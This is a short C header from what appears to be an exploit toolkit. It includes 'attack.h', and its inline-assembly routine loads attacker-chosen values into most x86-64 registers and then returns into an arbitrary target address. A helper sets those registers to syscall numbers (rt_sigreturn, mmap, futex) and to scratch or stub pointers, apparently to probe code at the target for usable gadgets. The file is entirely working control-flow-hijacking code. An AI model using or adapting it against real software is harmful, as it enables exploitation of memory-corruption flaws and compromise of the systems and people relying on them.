// Jumps to any address with registers that make the most of what may stand there.
#pragma once
#include "attack.h"
#include <sys/syscall.h>

enum { PATTERNS = 3 };

struct registers { unsigned long rax, rbx, rcx, rdx, rsi, rdi, rbp, rsp, r8, r9, r10, r11, r12, r13, r14, r15; };

__attribute__((noinline)) static void go(struct registers *r, unsigned long target) {
  asm volatile(
      "push %1\n pop %%r11\n mov %0, %%rax\n"
      "push %%r11\n"
      "mov 8(%%rax), %%rbx\n mov 16(%%rax), %%rcx\n mov 24(%%rax), %%rdx\n mov 32(%%rax), %%rsi\n mov 40(%%rax), %%rdi\n mov 48(%%rax), %%rbp\n"
      "mov 64(%%rax), %%r8\n mov 72(%%rax), %%r9\n mov 80(%%rax), %%r10\n mov 96(%%rax), %%r12\n mov 104(%%rax), %%r13\n mov 112(%%rax), %%r14\n mov 120(%%rax), %%r15\n"
      "mov (%%rax), %%rax\n ret"
      ::"r"(r), "r"(target) : "memory");
}

static struct registers pattern(int number, unsigned long *scratch) {
  static const unsigned long calls[] = {SYS_rt_sigreturn, SYS_mmap, SYS_futex};
  struct registers r;
  unsigned long *word = (unsigned long *)&r;
  for (int i = 0; i < 16; i++) {
    switch (number) {
      case 0: word[i] = (unsigned long)scratch; break;
      case 1: word[i] = STUB_REQUEST + 8 * (unsigned)i; break;
      default: word[i] = STUB_DATA + 64 * (unsigned)i; break;
    }
  }
  r.rax = calls[number];
  return r;
}
